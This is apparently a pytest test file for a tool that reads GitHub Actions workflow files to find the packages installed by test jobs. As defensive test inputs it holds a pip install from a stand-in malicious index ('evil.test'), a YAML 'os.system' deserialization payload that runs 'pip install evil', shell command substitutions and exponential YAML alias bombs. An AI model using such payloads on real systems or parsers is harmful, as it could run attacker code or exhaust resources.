from __future__ import annotations

import pytest

from testsmith.languages.python.running.install.requirements import Declared
from testsmith.languages.python.running.install.tool_environments import read_workflows

WORKFLOW = """
on: push
jobs:
  tests:
    strategy: {matrix: {django: ["4.2"]}}
    steps:
      - uses: actions/checkout@v5
      - run: python -m pip install --upgrade pip setuptools tox
      - run: |
          pip install -e .[speed] "pytest>=7" && echo done
          pip install -r requirements/ci.txt --index-url https://evil.test
          pip install Django==${{ matrix.django }} ${{ a }} $(cat some $(inner one) file) `cat other file`
          uv pip install \\
            attrs
      - run: pytest
  docs:
    steps:
      - run: pip install sphinx
      - run: sphinx-build docs
"""


def from_workflows(files: dict[str, str]) -> Declared:
    return read_workflows(files, files.get)


def test_workflows__what_jobs_that_run_tests_install() -> None:
    found = from_workflows({".github/workflows/ci.yml": WORKFLOW, "requirements/ci.txt": "idna\n"})
    assert found.requirements == ("pytest>=7", "idna", "attrs")
    assert found.extras == ("speed",)
    assert "--index-url https://evil.test" in found.left_out
    assert not any("sphinx" in text for text in (*found.requirements, *found.left_out))


@pytest.mark.parametrize(
    "text",
    [
        "",
        "pip: [",
        "jobs: pip",
        "jobs: {a: {steps: pip}}",
        "jobs: {a: {steps: [{run: 3}, pip, {run: pip install x}]}}",
        "pip: &a [*a]",
        "jobs: !!python/object/apply:os.system ['pip install evil; pytest']",
        'jobs: {a: {steps: [{run: "pip install \'x\\npytest"}]}}',
    ],
)
def test_workflows__nothing_of_use(text: str) -> None:
    assert from_workflows({".github/workflows/ci.yml": text}).is_empty


def test_workflows__job_that_works_in_another_repository() -> None:
    another = "{repository: other/charm, ref: main}"
    elsewhere = WORKFLOW.replace("actions/checkout@v5", f"actions/checkout@v5\n        with: {another}")
    assert from_workflows({".github/workflows/ci.yml": elsewhere}).is_empty
    beside = elsewhere.replace("ref: main", "path: data")
    assert "attrs" in from_workflows({".github/workflows/ci.yml": beside}).requirements


def test_workflows__job_that_tests_other_projects() -> None:
    clones = WORKFLOW.replace("run: pytest", "run: git clone https://example.org/user && cd user && pytest")
    assert from_workflows({".github/workflows/ci.yml": clones}).is_empty
    assert from_workflows({".github/workflows/downstream_tests.yml": WORKFLOW}).is_empty


def test_workflows__other_places_are_not_read() -> None:
    for path in ("ci.yml", ".github/workflows/below/ci.yml", ".github/workflows/ci.txt"):
        assert from_workflows({path: WORKFLOW}).is_empty


def test_workflows__aliases_that_multiply_do_no_harm() -> None:
    lines = ["a0: &a0 [pip install x, pytest]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 30)]
    assert from_workflows({".github/workflows/ci.yml": "\n".join(lines)}).is_empty


def test_workflows__merged_keys_that_multiply_do_no_harm() -> None:
    lines = ["a0: &a0 {pip: 1}"]
    lines += [f"a{n}: &a{n} {{<<: [{', '.join([f'*a{n - 1}'] * 9)}], b: 1}}" for n in range(1, 30)]
    assert from_workflows({".github/workflows/a.yml": "\n".join(lines)}).is_empty


def test_workflows__anchors_that_come_twice_are_not_warned_of(recwarn: pytest.WarningsRecorder) -> None:
    text = f"a: &a 1\nb: &a 2\n{WORKFLOW}"
    assert not from_workflows({".github/workflows/ci.yml": text}).is_empty
    assert not recwarn.list


def test_workflows__what_is_too_long_leaves_room_for_the_others() -> None:
    files = {".github/workflows/a.yml": WORKFLOW + "# x\n" * 100_000, ".github/workflows/b.yml": WORKFLOW}
    assert from_workflows(files) == from_workflows({".github/workflows/b.yml": WORKFLOW})
